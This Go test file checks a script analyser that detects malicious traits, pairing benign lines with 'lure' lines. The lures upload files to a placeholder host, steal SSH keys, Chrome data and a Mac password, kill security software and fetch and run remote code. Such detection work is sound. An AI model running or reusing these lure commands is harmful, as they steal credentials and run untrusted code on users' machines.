package script

import (
	"slices"
	"strings"
	"testing"
)

// TestMeant holds that words with an ordinary meaning give a trait only where
// they have the other one. Each honest text has a lure beside it.
func TestMeant(t *testing.T) {
	for _, c := range []struct {
		name, file, trait, honest, lure string
	}{
		{"curl among the names of packages", "a.sh", TraitUpload, "box run \"[ -f /etc/env ] && apk add bash curl jq; echo $@\"\n", "curl -s -F \"f=@/tmp/a.zip\" https://a.invalid/u\n"},
		{"rules of PowerShell in the shell", "a.sh", TraitUpload, "apt-get install -y curl -t stable\ncurl -sf https://a.invalid/u\n", "tar c . | curl -T - https://a.invalid/u\n"},
		{"who prepares the folder of keys", "a.sh", TraitSSHKeys, "mkdir -p /root/.ssh && chmod 700 /root/.ssh\nkeys+=(/root/.ssh/*.pub)\n", "tar czf /tmp/k.tgz ~/.ssh /tmp/x\ncp /root/.ssh/id_rsa /tmp/k\n"},
		{"user data of a directory", "a.ps1", TraitBrowserData, "Write-Log \"Exporting user data for $Upn\"\nWrite-Log 'web data found'\n", "Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\" C:\\x\n"},
		{"variables of a completion", "a.zsh", TraitBrowserData, "#!/bin/zsh\nlocal state line\n", "#!/bin/zsh\ncp \"$P/Local State\" /tmp/x\n"},
		{"a service reads its settings", "a.sh", TraitKillSecurity, "killall -HUP SophosAutoUpdate\n", "killall SophosAutoUpdate\n"},
		{"a signature is looked at", "a.sh", TraitResign, "codesign --verify --deep --strict /Applications/Tool.app\n", "codesign --force --deep --sign - /tmp/Tool.app\n"},
		{"the password of a service", "a.sh", TraitPasswordPrompt, "read -rsp 'Metrics password: ' metrics_pw\ncat >/opt/metrics.env <<EOF\nPASSWORD=${metrics_pw}\nEOF\n", "read -rsp 'Mac password: ' pw\np=$pw\necho \"$p\" | sudo -S true\n"},
		{"the help of a tool", "a.sh", TraitPasswordPrompt, "echo 'read it: tool -s sets the password'\n", "read -s password\n"},
		{"waiting for a machine", "a.sh", TraitProgressTheatre, strings.Repeat("install -d /srv/a\n", 150) + strings.Repeat("echo waiting\nsleep 2\n", 3), strings.Repeat("echo repairing\nsleep 2\n", 3)},
		{"a script beside its answers", "a.sh", TraitDynamicEval, "pbpaste | sh ./count.sh\n", "pbpaste | sh\n"},
	} {
		for text, want := range map[string]bool{c.honest: false, c.lure: true} {
			s, _ := Analyse(c.file, []byte(text))
			if s == nil {
				t.Fatalf("%s: %q is not taken for a script", c.name, text)
			}
			if got := slices.Contains(s.Traits, c.trait); got != want {
				t.Errorf("%s: %s %v of %q, want %v", c.name, c.trait, got, text, want)
			}
		}
	}
}

// TestFixedProgram holds that what a fixed program is given is data.
func TestFixedProgram(t *testing.T) {
	for text, want := range map[string]string{
		"v=\"$(osascript -l JavaScript -e 'run = argv => JSON.parse(argv[0]).tag' -- \"$(curl -s https://a.invalid/v)\")\"\n":                               "",
		"bash -c 'eval \"$1\"' - \"$(curl -s https://a.invalid/v)\"\n":                                                                                      "bash",
		"bash -c \"$(curl -s https://a.invalid/v)\"\n":                                                                                                      "bash",
		"curl -so t.tgz https://a.invalid/t.tgz\ntar xzf t.tgz\ninstaller -pkg t/Tool.pkg -target /\n":                                                      "installer",
		"curl -so t.tgz https://a.invalid/t.tgz\ntar xzf t.tgz\nsh ./t/setup\n":                                                                             "unzip-run",
		"curl -so /tmp/t.dmg https://a.invalid/t.dmg\nhdiutil attach /tmp/t.dmg\ncp -r /Volumes/T/T.app /Applications/\nchmod -R 775 /Applications/T.app\n": "",
	} {
		s, _ := Analyse("a.sh", []byte("#!/bin/sh\n"+text))
		got := ""
		for _, f := range s.Fetches {
			got += f.RunBy
		}
		if got != want {
			t.Errorf("%q: run by %q, want %q", text, got, want)
		}
	}
	if s, _ := Analyse("a.sh", []byte("#!/bin/sh\nprintf 'y\\nn\\n' | bash /opt/tool/install.sh\n")); s.Layers != 0 {
		t.Errorf("answers to a script's questions are taken for %d layers", s.Layers)
	}
}

// TestWhoReads holds that words for a button count where there is one.
func TestWhoReads(t *testing.T) {
	for _, c := range []struct {
		file, text string
		want       bool
	}{
		{"a.sh", "# Run this script to fetch the newest completions.\nls\n", false},
		{"a.sh", "echo '▶ Installing'\n", false},
		{"a.applescript", "-- Run this script to repair your audio.\ndo shell script \"ls\"\n", true},
		{"a.sh", "# Click Run to repair the driver.\nls\n", true},
	} {
		s, _ := Analyse(c.file, []byte(c.text))
		if got := slices.Contains(s.Pretexts, "press-run"); got != c.want {
			t.Errorf("%s %q: press-run %v", c.file, c.text, got)
		}
	}
	s, _ := Analyse("a.ps1", []byte("$toast = '<audio src=\"ms-winsoundevent:Default\"/>'\nWrite-Host '<audio src=\"x\"/>'\n"))
	if slices.Contains(s.Pretexts, "audio") {
		t.Error("a mark is taken for a word")
	}
	for text, want := range map[string]bool{"# sends the result to codecov.io\nls\n": false, "# installs the codecpack\nls\n": true} {
		if s, _ = Analyse("a.sh", []byte(text)); slices.Contains(s.Pretexts, "codec") != want {
			t.Errorf("%q: codec, want %v", text, want)
		}
	}
}
